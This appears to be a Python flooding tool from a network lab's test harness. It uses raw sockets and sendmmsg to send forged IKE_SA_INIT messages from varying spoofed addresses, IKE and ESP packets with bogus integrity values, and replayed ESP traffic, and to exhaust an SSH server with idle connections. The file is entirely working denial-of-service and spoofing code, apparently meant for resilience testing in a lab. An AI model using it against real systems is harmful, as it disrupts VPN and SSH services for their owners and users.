"""Sends packets as fast as it can, or at a rate; runs in a namespace of the lab, in the peer's place.

  flood.py KIND SOURCE TARGET SECONDS RATE [CAPTURE]     prints packets sent and seconds; RATE 0: all
                                                         it can; CAPTURE: what went to the target
  flood.py ssh TARGET PORT SECONDS RATE                  prints connections made, refused, seconds

Packets are built once and sent by sendmmsg(2), many a call; between the calls the octets that make
each of them a new one are changed.
"""

import ctypes
import errno
import os
import socket
import struct
import sys
import time
from collections import deque
from random import getrandbits  # what is random here need not be secret; a system call each is slow

import wire

BATCH = 128
TICK = 0.001
IKE, ESP_IN_UDP = 500, 4500
IP, UDP = 20, 8
PLACE = IP + UDP
HELD = 400  # SSH connections that are kept open


class Iovec(ctypes.Structure):
    """struct iovec."""

    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Mmsghdr(ctypes.Structure):
    """struct mmsghdr, with the struct msghdr in it."""

    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32),
                ("iov", ctypes.POINTER(Iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("sent", ctypes.c_uint32)]


def packet(source, target, port, payload):
    """An IPv4 packet with a UDP datagram without a checksum; the kernel adds that of the header."""
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, PLACE + len(payload), 0, 0, 64,
                       socket.IPPROTO_UDP, 0, socket.inet_aton(source), socket.inet_aton(target))
    return bytearray(head + struct.pack("!HHHH", port, port, UDP + len(payload), 0) + payload)


def first_message():
    """IKE_SA_INIT with AES-CBC-256, SHA2-256 and group 2, with a public value nobody made."""
    transforms = bytes.fromhex("0300000c0100000c800e0100" "0300000802000005" "030000080300000c"
                               "0000000804000002")
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 4) + transforms
    payloads = (struct.pack("!BBH", 34, 0, 4 + len(proposal)) + proposal
                + struct.pack("!BBHHH", 40, 0, 136, 2, 0) + os.urandom(128)
                + struct.pack("!BBH", 0, 0, 36) + os.urandom(32))
    return struct.pack("!8s8sBBBBII", os.urandom(8), bytes(8), 33, 0x20, 34, 8, 0,
                       28 + len(payloads)) + payloads


def forged_inits(source, target, _seen):
    """First messages, each of another initiator at another address."""
    def change(message):
        struct.pack_into("!I", message, 12, 0x0A640000 | getrandbits(16))
        struct.pack_into("!Q", message, PLACE, getrandbits(64))
    return [packet(source, target, IKE, first_message()) for _ in range(BATCH)], change


def bad_ike(source, target, seen):
    """Requests of the IKE SA that is there, with an ICV nobody made."""
    spis = seen.ike_spis
    body = struct.pack("!BBH", 0, 0, 68) + os.urandom(64)
    message = spis + struct.pack("!BBBBII", 46, 0x20, 37, 8, 2, 28 + len(body)) + body

    def change(octets):
        struct.pack_into("!Q", octets, len(octets) - 16, getrandbits(64))
    return [packet(source, target, ESP_IN_UDP, bytes(4) + message) for _ in range(BATCH)], change


def bad_esp(source, target, seen):
    """Packets of the SA that is there with numbers to come and another ICV."""
    spi, highest = seen.esp[-1][:4], max(struct.unpack("!I", p[4:8])[0] for p in seen.esp)

    def change(octets):
        struct.pack_into("!I", octets, PLACE + 4, highest + getrandbits(16))
        struct.pack_into("!Q", octets, len(octets) - 16, getrandbits(64))
    return [packet(source, target, ESP_IN_UDP, spi + seen.esp[-1][4:]) for _ in range(BATCH)], change


def replayed_esp(source, target, seen):
    """What was on the wire, once more."""
    payloads = [seen.esp[i % len(seen.esp)] for i in range(BATCH)]
    return [packet(source, target, ESP_IN_UDP, p) for p in payloads], None


KINDS = {"ike-init": forged_inits, "ike-icv": bad_ike, "esp-icv": bad_esp,
         "esp-replay": replayed_esp}


def headers(packets):
    """The argument of sendmmsg for packets that stay where they are."""
    array = (Mmsghdr * len(packets))()
    for header, octets in zip(array, packets):
        memory = (ctypes.c_char * len(octets)).from_buffer(octets)
        header.iov = ctypes.pointer(Iovec(ctypes.addressof(memory), len(octets)))
        header.iovlen = 1
    return array


def send(packets, change, target, seconds, rate):
    """Sends for so long; returns how many, and the seconds it took."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.connect((target, 0))
    libc = ctypes.CDLL(None, use_errno=True)
    array = headers(packets)
    sent, begun = 0, time.monotonic()
    elapsed = 0.0
    while elapsed < seconds:
        due = min(len(packets), int(elapsed * rate) - sent) if rate else len(packets)
        if due > 0:
            if change:
                for octets in packets[:due]:
                    change(octets)
            done = libc.sendmmsg(sock.fileno(), array, due, 0)
            if done < 0 and ctypes.get_errno() not in (errno.ENOBUFS, errno.EAGAIN):
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            sent += max(done, 0)
        if rate and due < len(packets):
            time.sleep(TICK)
        elapsed = time.monotonic() - begun
    return sent, elapsed


def connect(target, port, seconds, rate):
    """Opens connections that say nothing and keeps the youngest of them; returns how many were
    made, how many refused, and the seconds it took."""
    held, made, refused, begun = deque(), 0, 0, time.monotonic()
    elapsed = 0.0
    while elapsed < seconds:
        if not rate or made + refused < elapsed * rate:
            try:
                held.append(socket.create_connection((target, port), timeout=1))
                made += 1
            except OSError:
                refused += 1
            if len(held) > HELD:
                held.popleft().close()
        else:
            time.sleep(TICK)
        elapsed = time.monotonic() - begun
    return made, refused, elapsed


def main(words):
    """Runs what the command line says."""
    if words[0] == "ssh":
        print(*connect(words[1], int(words[2]), float(words[3]), float(words[4])))
        return
    kind, source, target, seconds, rate = words[:5]
    seen = wire.Wire(words[5], target) if len(words) > 5 else None
    packets, change = KINDS[kind](source, target, seen)
    print(*send(packets, change, target, float(seconds), float(rate)))


if __name__ == "__main__":
    main(sys.argv[1:])
